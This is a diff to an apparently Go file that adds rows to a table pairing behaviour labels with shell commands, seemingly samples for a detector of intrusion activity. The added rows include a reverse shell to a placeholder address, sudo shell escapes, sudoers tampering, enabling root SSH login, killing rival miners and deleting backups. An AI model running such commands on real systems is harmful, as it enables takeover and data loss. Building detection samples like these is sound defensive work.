@@ -262,6 +262,21 @@ passwords_sniffed|/usr/bin/ngrep -q password port 80
 keystrokes_recorded|/bin/bash -c "export PROMPT_COMMAND='history -a >(tee -a /tmp/h)'"
 remote_management_joined|/usr/bin/anydesk --set-password
 service_account_given_group|/usr/bin/gpasswd -a www-data docker
+rival_miner_killed|/bin/sh -c "ps aux | grep -v grep | grep 'javaup\|kinsing' | awk '{print $2}' | xargs -I % kill -9 %"
+reverse_shell|/bin/zsh -c "zmodload zsh/net/tcp && ztcp 198.51.100.7 4444"
+setuid_made|/usr/bin/install -m =xs /usr/bin/docker .
+shell_by_helper|/usr/bin/perl -e "use POSIX qw(setuid); POSIX::setuid(0); exec '/bin/sh';"
+shell_by_helper|/usr/bin/sudo git -c "core.pager=/bin/sh -c 'sh 0<&1'" -p help
+shell_by_helper|/usr/bin/sudo rsync -e "sh -c 'sh 0<&2'" h:/dev/null
+shell_by_helper|/usr/bin/sudo zip /tmp/x.zip /etc/hosts -T -TT "sh #"
+shell_by_helper|/usr/bin/sudo make -s --eval=x:-/bin/sh
+user_added_with_rights|/usr/bin/sudo dd of=/etc/sudoers.d/x
+hidden_file_made_executable|/bin/mount -o remount,exec /dev/shm
+ssh_server_of_own|/bin/sed -i "s/^#*PermitRootLogin.*/PermitRootLogin yes/" /etc/ssh/sshd_config
+data_destroyed|/bin/rm -rf /var/backups /backup
+redis_made_to_write|/usr/bin/redis-cli -h h module load /tmp/exp.so
+sensitive_file_linked|/bin/ln -s / /var/log/host/root_link
+system_tool_renamed|/bin/cp /bin/sh /tmp/crond
 `
 
 func process(line string) []byte {
